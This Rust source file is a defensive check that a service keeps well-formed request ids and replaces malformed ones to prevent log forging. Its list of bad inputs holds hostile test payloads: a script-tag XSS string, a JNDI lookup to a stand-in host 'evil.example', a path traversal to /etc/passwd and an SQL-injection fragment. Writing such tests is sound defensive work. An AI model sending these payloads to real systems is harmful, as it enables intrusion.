//! Every answer names its request; a caller's own name is taken over only when it is plain, so that logs can't be forged (OBS-1).

use std::collections::BTreeSet;

use crate::{
    check::{Check, Control, Effect, Outcome, Phase, Priority, Reference, Running, ensure, passed},
    probe::Probe,
};

pub(crate) static CHECK: Check = Check {
    id: "edge.request-id",
    title: "A well-formed request id is kept, any other is replaced",
    promises: &["OBS-1", "SEC-9"],
    priority: Priority::P0,
    references: &[
        Reference::Asvs("16.2.1"),
        Reference::Asvs("16.4.1"),
        Reference::Cwe(117),
        Reference::Cwe(93),
    ],
    needs: &[],
    effect: Effect::Safe,
    phase: Phase::Together,
    control: Control::Guard("request_id"),
    run: |probe| -> Running { Box::pin(run(probe)) },
};

const GOOD: &[&str] = &["0198c9a2-7d1e-7cc3-a1c4-3f60f1b2c3d4", "gate.request_0001", "A1b2C3d4"];

async fn run(probe: Probe) -> Outcome {
    for id in GOOD {
        for path in ["/health", "/v1/nothing-is-here"] {
            let answer = probe.client.get(path).header("x-request-id", id).patiently().send().await?;
            let ids = answer.all("x-request-id");
            ensure(ids == [*id], || format!("{path}: {id} came back as {ids:?}"))?;
            let named = answer.json().get("request_id").and_then(|id| id.as_str().map(str::to_owned));
            let is_right = answer.status < 400 || named.as_deref() == Some(id);
            ensure(is_right, || format!("{path}: the problem names {named:?}, not {id}"))?;
        }
    }
    let long = "x".repeat(4_000);
    let bad = [
        "",
        "short",
        "with space in it",
        "<script>alert(1)</script>",
        "a\tb\tc\td\te",
        "${jndi:ldap://evil.example}",
        "ünïcödé-id",
        "../../etc/passwd",
        "id=1;DROP TABLE",
        &long,
    ];
    for id in bad {
        let answer =
            probe.client.get("/v1/nothing-is-here").header("x-request-id", id).patiently().send().await?;
        let ids = answer.all("x-request-id");
        let shown = id.chars().take(40).collect::<String>();
        ensure(ids.len() == 1 && ids[0] != id && is_plain(ids[0]), || {
            format!("{shown:?} was answered with {ids:?}")
        })?;
        ensure(id.is_empty() || !answer.body_text().contains(id), || {
            format!("{shown:?} stands in the problem")
        })?;
    }
    let twice =
        probe.client.get("/health").header("x-request-id", GOOD[0]).header("x-request-id", "second one!");
    let ids = twice.send().await?;
    ensure(ids.all("x-request-id").len() == 1, || "two ids of a request came back".to_owned())?;
    let mut made = BTreeSet::new();
    for _ in 0..20 {
        let answer = probe.client.get("/health").only_counted().send().await?;
        made.insert(answer.header("x-request-id").unwrap_or_default().to_owned());
    }
    ensure(made.len() == 20, || "requests without a name share one".to_owned())?;
    passed(format!("{} good ids kept, {} bad ones replaced", GOOD.len(), bad.len()))
}

fn is_plain(id: &str) -> bool {
    (8..=64).contains(&id.len())
        && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
}
